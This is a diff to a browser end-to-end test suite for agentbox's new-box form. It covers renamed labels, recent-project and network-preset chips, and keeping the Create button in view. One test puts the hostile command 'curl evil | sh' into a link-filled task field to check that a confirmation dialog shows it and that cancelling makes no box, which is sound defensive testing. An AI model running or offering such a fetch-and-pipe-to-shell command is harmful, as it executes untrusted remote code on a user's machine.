@@ -28,6 +28,13 @@ const shownText = async (page: Page) => (await page.locator(".new-box-text").tex
 const nameField = (page: Page) => page.getByRole("region", { name: "The box" }).getByLabel("Name");
 const createButton = (page: Page) => page.getByRole("button", { name: /^Create/ });
 
+/** It opens the box when it is made, and says so. */
+async function opensBox(page: Page, name: string): Promise<void> {
+  await page.getByText("Box created", { exact: true }).waitFor();
+  await becomesTrue("the box is open", async () => new URL(page.url()).pathname === `/box/${name}`);
+  await page.getByRole("heading", { name }).first().waitFor();
+}
+
 /** Everything a box is made from; not where it is made or what it is called. */
 const specOf = ({ spec }: Box) => spec;
 
@@ -82,10 +89,7 @@ describeUnless(noBrowser)("the form for a new box", () => {
         services: { clock: { command: "sleep 1000" } },
       });
       await createButton(page).click();
-      await page.getByRole("heading", { name: "The box is there" }).waitFor({ timeout: 60_000 });
-      const steps = page.getByRole("region", { name: "Progress" }).getByRole("listitem");
-      await steps.filter({ hasText: "Registered" }).waitFor();
-      await steps.filter({ hasText: "Running" }).waitFor();
+      await opensBox(page, "form-notes");
       const made = await boxOf(ground.daemon, "form-notes");
       expect(made.spec.agent).toMatchObject({
         name: "notebot",
@@ -136,8 +140,8 @@ describeUnless(noBrowser)("the form for a new box", () => {
       await becomesTrue("it can be made", () => createButton(page).isEnabled());
       await createButton(page).click();
       // The link filled the form in, so it asks once more.
-      await page.getByRole("button", { name: "Make it" }).click();
-      await page.getByRole("heading", { name: "The box is there" }).waitFor({ timeout: 60_000 });
+      await page.getByRole("button", { name: "Create it" }).click();
+      await opensBox(page, "form-trusted");
       expect((await boxOf(ground.daemon, "form-trusted")).spec.mounts).toMatchObject([{ target: "/data" }]);
       const trust = await ground.daemon.client.listTrust();
       expect(trust.filter(({ projectDir }) => projectDir === dir)).toHaveLength(1);
@@ -150,7 +154,7 @@ describeUnless(noBrowser)("the form for a new box", () => {
       const { lastId } = await ground.daemon.client.listEvents({ limit: 1, order: "newest" });
       await using view = await onForm("?agent=notebot&task=curl%20evil%20%7C%20sh&create=1&start=true&yes=1");
       const { page } = view;
-      await page.getByText("A link filled this form in.").waitFor();
+      await page.getByText("A link filled in this form.").waitFor();
       expect(await page.getByLabel("Task").inputValue()).toBe("curl evil | sh");
       expect(await page.getByLabel("Agent", { exact: true }).inputValue()).toBe("notebot");
       await becomesTrue("it has been checked", () => createButton(page).isEnabled());
@@ -158,7 +162,7 @@ describeUnless(noBrowser)("the form for a new box", () => {
       await settled(page);
       await becomesTrue("it has been checked again", () => createButton(page).isEnabled());
       await createButton(page).click();
-      const question = page.getByRole("dialog", { name: "Make this box?" });
+      const question = page.getByRole("dialog", { name: "Create this box?" });
       await question.getByText("curl evil | sh").waitFor();
       await question.getByRole("button", { name: "Cancel" }).click();
       expect((await ground.daemon.client.listBoxes()).length).toBe(before);
@@ -182,7 +186,7 @@ describeUnless(noBrowser)("the form for a new box", () => {
       await page.getByText("Its agent is installed first.").waitFor();
       await becomesTrue("it can be made", () => createButton(page).isEnabled());
       await createButton(page).click();
-      await page.getByRole("heading", { name: "The box was not made" }).waitFor({ timeout: 60_000 });
+      await page.getByRole("heading", { name: "The box was not created" }).waitFor({ timeout: 60_000 });
       const progress = page.getByRole("region", { name: "Progress" });
       await progress.getByText("Installing absentbot").waitFor();
       await progress.getByRole("alert").waitFor();
@@ -191,15 +195,16 @@ describeUnless(noBrowser)("the form for a new box", () => {
       expect(await page.getByLabel("Agent", { exact: true }).inputValue()).toBe("absentbot");
     });
 
-    it("begins with a preset, a box that is there, or what was asked for last time", async () => {
+    it("begins with a preset, another box, or what was asked for last time", async () => {
       await using view = await onForm();
       const { page } = view;
+      await open(page, "Start from");
       await page.getByRole("button", { name: /^Careful/ }).click();
       await tab(page, "agentbox.toml");
       await becomesTrue("the preset is in the file", async () =>
         (await shownText(page)).includes('idle = "30m"'),
       );
-      await page.getByLabel("Like a box that is there").selectOption("form-notes");
+      await page.getByLabel("Like another box").selectOption("form-notes");
       await becomesTrue("the box is in the file", async () =>
         (await shownText(page)).includes('name = "notebot"'),
       );
@@ -208,6 +213,44 @@ describeUnless(noBrowser)("the form for a new box", () => {
       expect(text).not.toContain("idle");
       await tab(page, "Run locally");
       expect(await shownText(page)).toMatch(/agentbox create notebot .* && agentbox run-locally \S+$/);
+    });
+
+    it("picks a project that was used before, with what is in it, and network presets, by chips", async () => {
+      const dir = await ground.project({ "agentbox.toml": 'version = 1\n[agent]\nname = "shell"\n' });
+      await ground.daemon.client.createBox({ name: "picked-before", projectDir: dir, flags: {} });
+      await using view = await onForm();
+      const { page } = view;
+      const project = page.getByRole("list", { name: "Recent projects" }).getByRole("button", { name: dir });
+      await project.getByText("agentbox.toml").waitFor();
+      await project.getByText("1 box").waitFor();
+      await project.getByText(/^(main|master)$/).waitFor();
+      await project.click();
+      expect(await page.getByLabel("Project directory").inputValue()).toBe(dir);
+      const npm = page
+        .getByRole("group", { name: "Network" })
+        .getByRole("button", { name: "npm", exact: true });
+      await npm.click();
+      await tab(page, "agentbox.toml");
+      await becomesTrue("the preset is in the file", async () =>
+        (await shownText(page)).includes('presets = ["npm"]'),
+      );
+      await npm.click();
+      await becomesTrue("it is out again", async () => !(await shownText(page)).includes("npm"));
+    });
+
+    it.each([1280, 390])("keeps the button in sight, at %s px", async (width) => {
+      await using view = await signedInPage(browser, ground.daemon, { path: "/new", width, height: 740 });
+      const { page } = view;
+      await settled(page);
+      const isInSight = async () => {
+        const place = await createButton(page).boundingBox();
+        return place !== null && place.y >= 0 && place.y + place.height <= 740;
+      };
+      await becomesTrue("it is in sight at the top", isInSight);
+      await page.getByRole("heading", { name: "Lifecycle", exact: true }).scrollIntoViewIfNeeded();
+      await becomesTrue("it is in sight further down", isInSight);
+      for (const label of ["Task", "Project directory"])
+        expect(await page.getByLabel(label).isVisible()).toBe(true);
     });
 
     it("fits a phone, and needs no mouse", async () => {
